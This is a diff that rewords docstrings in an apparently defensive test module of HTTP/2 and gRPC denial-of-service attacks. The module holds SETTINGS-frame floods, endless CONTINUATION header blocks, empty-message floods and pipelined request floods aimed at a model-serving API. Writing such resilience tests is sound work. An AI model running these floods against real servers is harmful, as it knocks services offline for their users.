@@ -1,4 +1,4 @@
-"""Frames and small requests in masses: each is cheap for the attacker, and the server has to handle every one."""
+"""Floods of frames and small requests. Each is cheap for the attacker, but the server has to handle it."""
 
 from __future__ import annotations
 
@@ -13,18 +13,18 @@ _BLOCK = 1 << 16
 _PIPELINED = 256
 _CALLS = 100
 _EMPTY = bytes(5)
-"""A gRPC message of no bytes."""
+"""A gRPC message without content."""
 
 
 def _settings() -> bytes:
-    """Two full frames, each of which changes every stream's window 2,730 times."""
+    """Two full SETTINGS frames. Each frame changes the window of every stream 2,730 times."""
     count = h2.MIN_FRAME_SIZE // h2.SETTING.size
     pairs = b"".join(h2.SETTING.pack(h2.INITIAL_WINDOW_SIZE, 1 << 16 | number & 1) for number in range(count))
     return h2.frame(h2.SETTINGS, 0, 0, pairs) * 2
 
 
 def _flooding(frames: bytes, streams: int = 0) -> Callable[[Site], Awaitable[None]]:
-    """One HTTP/2 connection with open calls that repeats ``frames``."""
+    """One HTTP/2 connection that opens calls and then repeats ``frames``."""
     block = frames * max(1, _BLOCK // len(frames))
 
     async def run(site: Site) -> None:
@@ -51,7 +51,7 @@ async def _empty_messages(site: Site) -> None:
 
 
 async def _continuation(site: Site) -> None:
-    """A header block without end: HEADERS, then CONTINUATION frames of one byte, padded out by empty ones."""
+    """A header block that never ends: HEADERS, then CONTINUATION frames of one byte, with empty CONTINUATION frames in between."""
     frames = (h2.frame(h2.CONTINUATION, 0, 1, b"\x82") + h2.frame(h2.CONTINUATION, 0, 1)) * (_BLOCK // 19)
     async with H2Wire(site) as wire:
         await wire.open()
@@ -62,7 +62,7 @@ async def _continuation(site: Site) -> None:
 
 
 async def _pipelining(site: Site) -> None:
-    """Requests for the repository index, hundreds at once; the responses are read."""
+    """Hundreds of pipelined requests for the repository index. The attacker reads the responses."""
     async with HttpWire(site) as wire:
         requests = wire.request("/v2/repository/index", b"{}") * _PIPELINED
         expected = 0
@@ -73,7 +73,7 @@ async def _pipelining(site: Site) -> None:
 
 
 async def _control_calls(site: Site) -> None:
-    """Calls for the statistics of all models, a hundred at once."""
+    """A hundred concurrent calls for the statistics of all models."""
     async with H2Wire(site) as wire:
         await wire.open()
         while True:
